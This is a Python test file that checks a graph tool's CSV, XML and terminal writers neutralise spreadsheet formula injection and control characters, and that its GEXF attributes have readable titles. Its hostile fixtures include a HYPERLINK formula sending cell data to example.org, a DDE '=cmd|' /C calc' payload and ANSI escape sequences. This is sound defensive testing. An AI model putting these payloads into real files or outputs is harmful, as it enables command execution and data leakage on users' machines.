"""What the writers do to hostile text: no CSV cell starts a spreadsheet formula (and the claims CSV still
reads back exactly), control characters never reach an XML file or a terminal, and the GEXF names its
attributes so that graphology-gexf (sigma.js, Gephi Lite) shows their titles (coi_graph.export.safety)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import networkx as nx
import pyoxigraph as ox
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from coi_graph.compile.pipeline import BuildResult
from coi_graph.export.citations import COLUMNS as CITATION_COLUMNS
from coi_graph.export.citations import citation_rows
from coi_graph.export.claims import LOSSLESS_COLUMNS, claim_rows
from coi_graph.export.claims_import import parse_claims_csv
from coi_graph.export.gephi_csv import to_gephi_csv
from coi_graph.export.gexf import to_gexf
from coi_graph.export.graphml import to_graphml
from coi_graph.export.safety import (
    FORMULA_TRIGGERS,
    csv_text,
    neutralise_cell,
    restore_cell,
    visible,
    xml_document,
)
from coi_graph.export.tabular import render, write
from coi_graph.namespaces import Graphs
from coi_graph.network.analytics import annotate
from coi_graph.network.projection import project
from coi_graph.resources import ontology_path
from coi_graph.store import STORE_DIR, open_store
from tests.conftest import ROOT, SHARED, run_cli

COI = "https://w3id.org/coi-graph/ontology#"
XSD = "http://www.w3.org/2001/XMLSchema#"
E = "https://w3id.org/coi-graph/id/entity/"
GEXF_SCHEMA = SHARED / "schemas" / "gexf" / "1.3" / "gexf.rng"
JS = ROOT / "tests" / "js"
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
ESC = "\x1b"

# Cells a spreadsheet would read as formulas, and values that must come back exactly.
FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "-",
    "'=1+2",  # an apostrophe of its own before a formula: one more, taken off again on import
    "''",
    "a;=1+2",  # a spreadsheet that splits on ';' would start a cell at '='
    'a,"=1+2',
    "line\n-1+1",
    "-0044-03-15",  # a negative year: not a plain number
]
NUMBERS = ["-5", "+5", "-3.7", "-.5", "-2e3", "-1.5E-7", "5", "0"]
# Control characters: C0 (with NUL and ESC), DEL and C1 (CSI, NEL).
CONTROLS = "a\x00b\x01c\x1b[31md\x7fe\x85f\x9b2Jg\x0bh\x0ci"
CONTROLS_TURTLE = "".join(f"\\u{ord(c):04X}" if ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F else c for c in CONTROLS)


def _cells_start_no_formula(text: str, delimiter: str = ",") -> None:
    """Every cell, and every part of one after a separator where a spreadsheet set otherwise would start a
    cell, begins (after double quotes) with no formula character, unless it is a plain number."""
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            starts = [0] + [m.end() for m in re.finditer(r"[,;\t\n\r]", cell)]
            for start in starts:
                piece = re.match(r"[\s\S][^,;\t\n\r]*", cell[start:])
                if piece is None:
                    continue
                head = piece.group().lstrip('"')
                assert not head or head[0] not in FORMULA_TRIGGERS or NUMBER.fullmatch(piece.group()), (cell, start)


def _read_back(text: str, delimiter: str = ",") -> list[list[str]]:
    return [[restore_cell(c) for c in row] for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)]


# --- the rule itself --------------------------------------------------------------------------------


def test_owasp_examples_are_neutralised_and_read_back() -> None:
    """OWASP's examples: the cell is quoted, its quotes doubled and an apostrophe put before the formula
    (here also before the second, which a reader splitting on ';' would see as a cell of its own)."""
    first, second = '=1+2";=1+2', "=1+2'\" ;,=1+2"
    text = csv_text(["value"], [[first], [second]])
    assert text.splitlines()[1:] == ['"\'=1+2"";\'=1+2"', '"\'=1+2\'"" ;,\'=1+2"']
    _cells_start_no_formula(text)
    _cells_start_no_formula(text.replace(",", ";"), delimiter=";")
    assert _read_back(text) == [["value"], [first], [second]]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_gets_an_apostrophe_and_comes_back(value: str) -> None:
    cell = neutralise_cell(value)
    assert cell != value and restore_cell(cell) == value
    _cells_start_no_formula(csv_text(["v"], [[value]]))


@pytest.mark.parametrize("value", [*NUMBERS, "plain", "2024-12-01", "'quoted'", "'", "O'Brien", "a, -b", ""])
def test_numbers_and_plain_text_are_left_alone(value: str) -> None:
    assert neutralise_cell(value) == value == restore_cell(value)


@settings(max_examples=3000, deadline=None)
@given(st.text(st.sampled_from(list("=+-@\t\r\n,;'\" a5.e")) | st.characters(), max_size=30))
def test_the_escape_is_reversible_and_leaves_no_formula(value: str) -> None:
    """Any text, in a cell of a CSV or a TSV: read back and restored, it is the value again."""
    assert restore_cell(neutralise_cell(value)) == value
    for delimiter in (",", "\t"):
        text = csv_text(["v"], [[value]], delimiter=delimiter)
        _cells_start_no_formula(text, delimiter)
        assert _read_back(text, delimiter) == [["v"], [value.replace("\x00", "\ufffd")]]  # NUL: not in text files


# --- every CSV writer -------------------------------------------------------------------------------

HOSTILE = f"""
@prefix coi: <{COI}> . @prefix xsd: <{XSD}> . @prefix skos: <http://www.w3.org/2004/02/skos/core#> .
@prefix c: <https://w3id.org/coi-graph/id/claim/t/> . @prefix d: <https://w3id.org/coi-graph/id/doc/t/> .
@prefix ent: <{E}> .
<{Graphs.REGISTRY}> {{
  ent:a skos:prefLabel "@SUM(A1:A2)" . ent:b skos:prefLabel "-2+3" . ent:c skos:prefLabel "{CONTROLS_TURTLE}" .
}}
<{Graphs.CLAIMS}> {{
  c:1 a coi:Claim ; coi:quote "=HYPERLINK(\\"http://example.org/\\",\\"x\\")" ; coi:modality coi:Stated ;
      coi:passage d:p1 ; coi:footnote d:fn1 ; coi:timeExpression "+1 day" ; coi:reviewedBy "'=me" .
  c:2 a coi:Claim ; coi:quote "a;=1+2\\n-1+1" ; coi:modality coi:Reported ; coi:passage d:p1 ;
      coi:startTime "-0044"^^xsd:gYear .
}}
<{Graphs.DERIVED}> {{
  c:1 coi:inDocument <https://w3id.org/coi-graph/id/doc/t> ; coi:footnoteList "1" ; coi:sourceList "-x, 2024" .
  c:2 coi:inDocument <https://w3id.org/coi-graph/id/doc/t> .
}}
<{Graphs.DOCUMENTS}> {{
  d:fn1 a coi:Footnote ; coi:inDocument <https://w3id.org/coi-graph/id/doc/t> ; coi:footnoteNumber 1 ;
      coi:hasCitation d:fn1-c1 .
  d:fn1-c1 coi:ordinal 1 ; coi:publisherName "@publisher" ; coi:title "=cmd|' /C calc'!A0" ;
      coi:citedWork <https://w3id.org/coi-graph/id/work/w> ; coi:pages "-3" ; coi:url "+http://x" .
}}
c:1 {{ ent:a coi:supports ent:b . ent:a coi:amount "-5"^^xsd:integer . ent:a coi:unitText "-troops" . }}
c:2 {{ ent:b coi:presentAt ent:c . ent:c coi:unitText "\\t@x" . ent:c coi:amount "-2.5"^^xsd:decimal . }}
"""


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A build directory whose store holds claims, labels and citations that start formulas."""
    build_dir = tmp_path_factory.mktemp("hostile")
    store = ox.Store(str(build_dir / STORE_DIR))
    store.load(input=HOSTILE.encode("utf-8"), format=ox.RdfFormat.TRIG)
    store.load(path=str(ontology_path()), format=ox.RdfFormat.TURTLE, to_graph=ox.NamedNode(str(Graphs.ONTOLOGY)))
    store.flush()
    del store
    return build_dir


def test_hostile_claims_csv_has_no_formula_and_imports_back_exactly(hostile_build: Path, tmp_path: Path) -> None:
    out = tmp_path / "claims.csv"
    result = run_cli("export", "claims", "--lossless", "--build", str(hostile_build), "-o", str(out))
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    _cells_start_no_formula(text)
    assert "'=HYPERLINK" in text and "'@SUM" in text and ",-5," in text and ",-2.5," in text  # numbers kept
    rows = claim_rows(open_store(hostile_build), lossless=True)
    back = _read_back(text)
    assert back[0] == list(LOSSLESS_COLUMNS)
    expected = [["" if row.get(c) is None else str(row.get(c)) for c in LOSSLESS_COLUMNS] for row in rows]
    assert back[1:] == [[cell.replace("\x00", "\ufffd") for cell in row] for row in expected]

    imported = parse_claims_csv(text, out)
    quotes = {c.iri.value.rsplit("/", 1)[1]: c.quote for c in imported.claims}
    assert quotes == {"1": '=HYPERLINK("http://example.org/","x")', "2": "a;=1+2\n-1+1"}
    check = run_cli("import", "claims", str(out), "--check", "--build", str(hostile_build))
    assert check.exit_code == 0 and check.stdout == "", check.stdout

    trig = run_cli("import", "claims", str(out))
    assert trig.exit_code == 0, trig.stderr
    quads = list(ox.parse(input=trig.stdout.encode("utf-8"), format=ox.RdfFormat.TRIG))
    values = {q.object.value for q in quads if isinstance(q.object, ox.Literal)}
    assert {"'=me", "+1 day", "-troops", "\t@x", "-5", "-2.5", "-0044"} <= values


def test_plain_claims_csv_has_no_formula_and_checks_clean(hostile_build: Path, tmp_path: Path) -> None:
    out = tmp_path / "plain.csv"
    assert run_cli("export", "claims", "--build", str(hostile_build), "-o", str(out)).exit_code == 0
    _cells_start_no_formula(out.read_text(encoding="utf-8"))
    check = run_cli("import", "claims", str(out), "--check", "--build", str(hostile_build))
    assert check.exit_code == 0 and check.stdout == "", (check.stdout, check.stderr)


def test_citations_csv_has_no_formula(hostile_build: Path) -> None:
    result = run_cli("export", "citations", "--build", str(hostile_build))
    assert result.exit_code == 0, result.output
    _cells_start_no_formula(result.stdout)
    rows = citation_rows(open_store(hostile_build))
    expected = [["" if row[c] is None else str(row[c]) for c in CITATION_COLUMNS] for row in rows]
    assert _read_back(result.stdout)[1:] == expected
    assert expected[0][3:5] == ["@publisher", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_query_results_as_csv_and_tsv_have_no_formula(hostile_build: Path, fmt: str, delimiter: str) -> None:
    values = " ".join(json.dumps(v) for v in FORMULAS)
    query = "SELECT ?v WHERE { VALUES ?v { " + values + " -5 -3.7 } }"
    result = run_cli("query", "-e", query, "--build", str(hostile_build), "--format", fmt)
    assert result.exit_code == 0, result.output
    _cells_start_no_formula(result.stdout, delimiter)
    assert _read_back(result.stdout, delimiter) == [["v"], *([v] for v in FORMULAS), ["-5"], ["-3.7"]]


def test_tabular_csv_has_no_formula() -> None:
    """The writer behind analyze, mentions and evaluate as CSV."""
    rows = [{"name": v, "score": -1.5, "rank": -2} for v in FORMULAS]
    text = render(rows, ["name", "score", "rank"], "csv")
    _cells_start_no_formula(text)
    assert _read_back(text)[1:] == [[v, "-1.5", "-2"] for v in FORMULAS]


def test_gephi_csv_has_no_formula_and_keeps_negative_coordinates() -> None:
    graph: nx.MultiDiGraph[str] = nx.MultiDiGraph()
    graph.add_node("=a", label="=HYPERLINK(1)", type="@city", latitude=-33.9, longitude=-70.6, aliases=["-x", "+y"])
    graph.add_node("b", label="-b")
    graph.add_edge("=a", "b", key="k", label="+knows", relation="@r", weight=-1.0, first="-0044", claims=3)
    nodes, edges = to_gephi_csv(graph)
    for text in (nodes, edges):
        _cells_start_no_formula(text)
    node = dict(zip(*_read_back(nodes)[:2], strict=True))
    assert (node["Id"], node["Label"], node["type"], node["aliases"]) == ("=a", "=HYPERLINK(1)", "@city", "-x; +y")
    assert "-33.9,-70.6" in nodes  # the numbers as they are
    edge = dict(zip(*_read_back(edges)[:2], strict=True))
    assert (edge["Source"], edge["Label"], edge["Weight"], edge["Start"], edge["relation"]) == (
        "=a",
        "+knows",
        "-1.0",
        "-0044",
        "@r",
    )


# --- control characters: XML and terminals ----------------------------------------------------------


def _raw_controls(text: str) -> set[str]:
    return {c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F}


def _hostile_graph() -> nx.MultiDiGraph[str]:
    graph: nx.MultiDiGraph[str] = nx.MultiDiGraph()
    graph.add_node("a" + CONTROLS, label=CONTROLS, type="city", note=CONTROLS, tags=[CONTROLS, "x"])
    graph.add_node("b", label="Beta\r\nline")
    graph.add_edge("a" + CONTROLS, "b", key="k" + CONTROLS, label=CONTROLS, relation=CONTROLS, weight=1.0)
    return graph


def _validate_gexf(text: str) -> None:
    if not GEXF_SCHEMA.is_file():
        pytest.skip(f"{GEXF_SCHEMA} not present (CI has ../shared beside the clone)")
    schema = etree.RelaxNG(etree.parse(str(GEXF_SCHEMA)))
    assert schema.validate(etree.parse(io.BytesIO(text.encode("utf-8")))), schema.error_log


def test_xml_document_replaces_what_xml_cannot_hold_and_references_the_rest() -> None:
    assert (
        xml_document("a\x00b\x1bc\x7fd\x85e\x9bf\rg\th\ni\ufffej")
        == "a\ufffdb\ufffdc&#x7F;d&#x85;e&#x9B;f&#xD;g\th\ni\ufffdj"
    )


def test_gexf_with_control_characters_parses_and_validates() -> None:
    text = to_gexf(_hostile_graph())
    assert not _raw_controls(text)
    _validate_gexf(text)
    root = etree.fromstring(text.encode("utf-8"))
    ns = {"g": "http://gexf.net/1.3"}
    labels = [n.get("label") for n in root.iterfind(".//g:node", ns)]
    # C0 controls become U+FFFD; DEL and C1 controls come back from their character references
    assert "a\ufffdb\ufffdc\ufffd[31md\x7fe" in labels[0] and "\x9b2Jg" in labels[0]
    note = root.find(".//g:attribute[@title='note']", ns)
    assert note is not None
    (value,) = [v.get("value") for v in root.iterfind(f".//g:attvalue[@for='{note.get('id')}']", ns)]
    assert value == CONTROLS.replace("\x00", "\ufffd").replace("\x01", "\ufffd").replace(ESC, "\ufffd").replace(
        "\x0b", "\ufffd"
    ).replace("\x0c", "\ufffd")
    back = nx.read_gexf(io.BytesIO(text.encode("utf-8")))
    assert back.number_of_nodes() == 2 and back.number_of_edges() == 1


def test_graphml_with_control_characters_parses() -> None:
    text = to_graphml(_hostile_graph())
    assert not _raw_controls(text)
    etree.fromstring(text.encode("utf-8"))
    back = nx.read_graphml(io.StringIO(text), force_multigraph=True)
    (node,) = [d for n, d in back.nodes(data=True) if n != "b"]
    assert node["note"].startswith("a\ufffdb\ufffdc\ufffd[31md\x7fe\x85f\x9b2J")
    assert back.nodes["b"]["label"] == "Beta\r\nline"  # the carriage return survives as a reference


def test_tables_show_control_characters_visibly(hostile_build: Path) -> None:
    rows = [{"label": CONTROLS, "n": 1}]
    table = render(rows, ["label", "n"], "table")
    assert ESC not in table and not _raw_controls(table) and "\\x1b[31m" in table and "\\x9b2J" in table
    query = "SELECT ?label WHERE { GRAPH graph:registry { ent:c skos:prefLabel ?label } }"
    for fmt in ("table", "markdown"):
        result = run_cli("query", "-e", query, "--build", str(hostile_build), "--format", fmt)
        assert result.exit_code == 0, result.output
        assert not _raw_controls(result.stdout), fmt
        assert "a\\x00b\\x01c\\x1b[31md\\x7fe\\x85f\\x9b2Jg\\x0bh\\x0ci" in result.stdout, fmt


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_output_to_a_terminal_shows_control_characters_and_files_get_them_exactly(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    text = csv_text(["label"], [[CONTROLS]])
    terminal = _Terminal()
    monkeypatch.setattr(sys, "stdout", terminal)
    write(text, None)
    shown = terminal.getvalue()
    assert ESC not in shown and not _raw_controls(shown) and shown == visible(text, keep="\n\t")
    pipe = io.StringIO()
    monkeypatch.setattr(sys, "stdout", pipe)
    write(text, None)
    assert pipe.getvalue() == text  # a pipe gets the data as it is
    write(text, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_text(encoding="utf-8") == text


# --- GEXF attributes: numeric ids with titles, no library internals ---------------------------------


@pytest.fixture(scope="module")
def seed_gexf(seed_build: BuildResult) -> str:
    return to_gexf(annotate(project(open_store(seed_build.out_dir))), size_by="pagerank")


def test_gexf_attribute_ids_are_numbers_with_titles_and_no_networkx_key(seed_gexf: str) -> None:
    _validate_gexf(seed_gexf)
    root = etree.fromstring(seed_gexf.encode("utf-8"))
    ns = {"g": "http://gexf.net/1.3"}
    numbered = 0
    for cls in ("node", "edge"):  # one numbering: the nodes' attributes, then the edges'
        declared = root.findall(f".//g:attributes[@class='{cls}']/g:attribute", ns)
        assert [a.get("id") for a in declared] == [str(numbered + i) for i in range(len(declared))]
        numbered += len(declared)
        titles = [a.get("title") for a in declared]
        assert len(set(titles)) == len(titles) and "networkx_key" not in titles
        ids = {a.get("id") for a in declared}
        used = {v.get("for") for v in root.iterfind(f".//g:{cls}/g:attvalues/g:attvalue", ns)}
        assert used <= ids
    assert "networkx_key" not in seed_gexf


@pytest.fixture(scope="session")
def node_js() -> str:
    """Node.js with tests/js's dependencies installed (npm ci), or a skip on a machine without them;
    CI (CI=true) must have them: .ci/run installs them with 'npm ci --prefix tests/js'."""
    node = shutil.which("node")
    if node and (JS / "node_modules" / "graphology-gexf").is_dir():
        return node
    missing = (
        "install Node.js and npm (apt-get install nodejs npm), then 'npm ci --prefix tests/js'"
        if not node
        else "run 'npm ci --prefix tests/js'"
    )
    if os.environ.get("CI"):
        pytest.fail(f"the graphology-gexf tests need Node.js and tests/js/node_modules in CI: {missing}")
    pytest.skip(f"graphology-gexf is not installed here: {missing}")


def _graphology(node_js: str, text: str, tmp_path: Path) -> dict[str, object]:
    path = tmp_path / "graph.gexf"
    path.write_text(text, encoding="utf-8")
    done = subprocess.run(
        [node_js, str(JS / "read-gexf.js"), str(path)], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    read = json.loads(done.stdout)
    assert isinstance(read, dict)
    return read


def test_graphology_gexf_reads_attribute_titles(node_js: str, seed_gexf: str, tmp_path: Path) -> None:
    """sigma.js and Gephi Lite read GEXF with graphology-gexf, which names an attribute by its title only when
    its id is a number: before, the nodes had attributes n0, n1, … and the edges e0, e1, …"""
    read = _graphology(node_js, seed_gexf, tmp_path)
    node_names, edge_names = read["nodeAttributes"], read["edgeAttributes"]
    assert isinstance(node_names, list) and isinstance(edge_names, list)
    assert not [n for n in node_names + edge_names if re.fullmatch(r"[ne]?\d+", n)]
    assert {"type", "kind", "category", "pagerank", "wikidata", "aliases"} <= set(node_names)
    assert {"relation", "claims", "publishers", "footnotes", "claim_ids", "modality"} <= set(edge_names)
    assert "networkx_key" not in edge_names
    nodes, edges = read["nodes"], read["edges"]
    assert isinstance(nodes, dict) and isinstance(edges, list)
    syria = nodes[E + "syria"]
    assert (syria["label"], syria["type"], syria["wikidata"]) == ("Syria", "state", "Q858")
    (present,) = [
        e["attributes"]
        for e in edges
        if e["source"] == E + "us-armed-forces"
        and e["target"] == E + "syria"
        and e["attributes"]["relation"] == "presentAt"
    ]
    assert (present["claims"], present["publishers"], present["weight"]) == (2, 3, 2)


def test_graphology_gexf_reads_control_characters(node_js: str, tmp_path: Path) -> None:
    read = _graphology(node_js, to_gexf(_hostile_graph()), tmp_path)
    nodes = read["nodes"]
    assert isinstance(nodes, dict) and len(nodes) == 2
    (hostile,) = [d for n, d in nodes.items() if n != "b"]
    assert hostile["note"].startswith("a\ufffdb\ufffdc\ufffd[31md\x7fe\x85f\x9b2J")
